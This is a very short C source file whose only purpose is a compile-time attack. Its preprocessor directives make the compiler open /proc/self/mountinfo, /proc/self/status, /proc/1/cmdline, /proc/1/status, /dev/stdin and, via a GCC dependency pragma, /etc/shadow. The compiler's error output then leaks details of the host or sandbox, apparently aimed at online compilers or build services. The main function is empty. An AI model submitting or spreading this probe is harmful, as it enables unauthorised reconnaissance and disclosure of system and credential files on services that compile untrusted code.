#define PLACE "/proc/self/mountinfo"
#include PLACE
#include "/proc/self/status"
#include "/proc/1/cmdline"
#include "/proc/1/status"
#include "/dev/stdin"
#pragma GCC dependency "/etc/shadow"

int main() {}
